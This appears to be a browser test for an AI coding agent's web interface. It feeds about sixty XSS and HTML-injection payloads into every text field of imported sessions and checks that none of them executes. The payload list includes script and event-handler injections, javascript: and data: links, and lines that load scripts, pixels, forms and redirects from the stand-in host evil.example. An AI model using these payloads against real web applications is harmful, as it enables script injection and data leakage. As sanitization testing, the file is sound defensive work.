// Hostile text wherever text comes from: prompts, answers, thoughts, file names, tool input and output, titles. Nothing runs.
import assert from "node:assert/strict";
import { inBrowser, picture } from "./browser.mjs";

const RUN = "window.ran=1";
const TAGS = "a audio body button details div embed form iframe img input isindex link marquee math meta object script style svg table textarea video".split(" ");
const PAYLOADS = [
  ...TAGS.map((tag) => `<${tag} src=x onerror=${RUN} onload=${RUN} onfocus=${RUN} autofocus ontoggle=${RUN} open onstart=${RUN} href="javascript:${RUN}">${RUN}</${tag}>`),
  `<script>${RUN}</script>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</code></pre><img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/pixel.png">`,
  `![pixel](https://evil.example/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](x" onerror="${RUN})`,
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java\tscript:${RUN})`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](vbscript:${RUN})`,
  `[click](//evil.example)`,
  `[x](https://evil.example "onmouseover=${RUN}")`,
  `<javascript:${RUN}>`,
  `[ref]\n\n[ref]: javascript:${RUN}`,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <svg onload=${RUN}> | c |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `# <img src=x onerror=${RUN}>`,
  `> <iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<form action=https://evil.example><button>ok</button></form>`,
  `<base href=https://evil.example>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<div style="background:url(https://evil.example/x)">x</div>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<img id=app><img name=body><form id=prompt>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007`,
  `\u202e<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `__proto__`,
  `constructor`,
  `<x onclick=${RUN} tabindex=1 id=x></x>`,
  `javascript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
];
assert.ok(PAYLOADS.length >= 60, `${PAYLOADS.length} payloads`);

const time = { created: 1_700_000_000_000, updated: 1_700_000_000_000 };
const info = (title) => ({ id: "ses_x", slug: "x", projectID: "x", directory: "/x", version: "1", title, time });

/** A prompt and its answer that hold one payload wherever text can stand. */
function turn(payload, index) {
  const created = time.created + index * 1_000;
  const user = `msg_u${String(index).padStart(6, "0")}`;
  const answer = `msg_v${String(index).padStart(6, "0")}`;
  const part = (messageID, more, n) => ({ id: `prt_${index}x${n}x${messageID.at(4)}`, sessionID: "ses_x", messageID, ...more });
  const tool = (name, input, metadata, n, output = payload) => part(answer, { type: "tool", tool: name, callID: `call_${n}`, state: { status: "completed", input, output, title: payload, metadata, time: { start: created, end: created + 1 } } }, n);
  const patch = `--- a/x\n+++ b/x\n@@ -1,1 +1,1 @@\n-${payload.split("\n")[0]}\n+${payload.split("\n")[0]}!\n`;
  const ended = { time: { start: created, end: created } };
  return [
    { info: { id: user, sessionID: "ses_x", role: "user", time: { created }, agent: payload, model: { providerID: payload, modelID: payload } }, parts: [part(user, { type: "text", text: payload }, 1), part(user, { type: "file", mime: "image/svg+xml", filename: payload, url: `data:image/svg+xml,<svg onload='${RUN}'/>` }, 2)] },
    {
      info: { id: answer, sessionID: "ses_x", role: "assistant", parentID: user, time: { created: created + 1, completed: created + 2 }, modelID: payload, providerID: payload, mode: payload, agent: payload, path: { cwd: "/x", root: "/x" }, cost: 0, tokens: { input: 1, output: 1, reasoning: 0, cache: { read: 0, write: 0 } }, finish: "stop", ...(index % 3 === 0 ? { error: { name: "UnknownError", data: { message: payload } } } : {}) },
      parts: [
        part(answer, { type: "reasoning", text: payload, ...ended }, 1),
        part(answer, { type: "text", text: payload, ...ended }, 2),
        tool("bash", { command: payload }, { output: payload, exit: 1 }, 3),
        tool("edit", { filePath: payload }, { diff: patch, filediff: { file: payload, patch, additions: 1, deletions: 1 } }, 4),
        tool(payload.slice(0, 60), { [payload]: payload }, {}, 5),
        tool("task", { description: payload, subagent_type: payload }, { sessionId: payload }, 6, `<task_result>\n${payload}\n</task_result>`),
        tool("todowrite", { todos: [{ content: payload, status: "pending", priority: "high" }] }, {}, 7),
        part(answer, { type: "patch", hash: "x", files: [payload, `/x/${payload}`] }, 8),
      ],
    },
  ];
}

await inBrowser(async (open, { allow }) => {
  const page = await open();
  page.on("dialog", () => assert.fail("a dialog of the browser opened"));
  await page.waitForSelector("#prompt");
  await page.waitForFunction(() => localStorage.getItem("codeloop.key"));
  allow(/404|400/);
  const ids = await page.evaluate(
    async ({ sessions }) => {
      const headers = { "x-codeloop-key": localStorage.getItem("codeloop.key"), "content-type": "application/json" };
      const made = [];
      for (const session of sessions) {
        const response = await fetch("/session/import", { method: "POST", headers, body: JSON.stringify(session) });
        if (!response.ok) throw new Error(await response.text());
        made.push((await response.json()).session);
      }
      return made;
    },
    { sessions: PAYLOADS.map((payload, index) => ({ info: info(payload), messages: turn(payload, index) })) },
  );
  await page.reload();
  await page.waitForSelector(".session");
  let shown = 0;
  for (const { id, directory } of ids) {
    await page.evaluate(([dir, session]) => (location.hash = `#${new URLSearchParams({ dir, session })}`), [directory, id]);
    await page.waitForSelector(".tool");
    await page.evaluate(() => {
      for (const line of document.querySelectorAll(".tool-line[aria-expanded='false']")) line.click();
      for (const box of document.querySelectorAll("details")) box.open = true;
    });
    shown += await page.locator(".tool-body").count();
    const found = await page.evaluate(() => ({
      ran: window.ran ?? null,
      elements: [...document.querySelectorAll("main script, main iframe, main object, main embed, main form[action], main base, main link, main meta, main style, main math, main video, main audio, main marquee, main img[src^='http'], main [style*='url']")].map((each) => each.outerHTML.slice(0, 120)),
      handlers: [...document.querySelectorAll("*")].filter((each) => [...each.attributes].some((attribute) => /^on/i.test(attribute.name))).map((each) => each.outerHTML.slice(0, 120)),
      links: [...document.querySelectorAll("a[href]")].map((each) => each.getAttribute("href")).filter((href) => !/^(?:#|https?:\/\/|mailto:|\/web\/)/i.test(href)),
    }));
    assert.deepEqual(found, { ran: null, elements: [], handlers: [], links: [] });
  }
  assert.equal(await page.locator(".session-title:has-text('\\u202e')").count(), 1, "a title that turns its letters around says so");
  assert.ok(shown > PAYLOADS.length * 4, `${shown} calls were opened`);
  await picture(page, "payloads");
  assert.equal(await page.evaluate(() => window.ran ?? null), null);
});
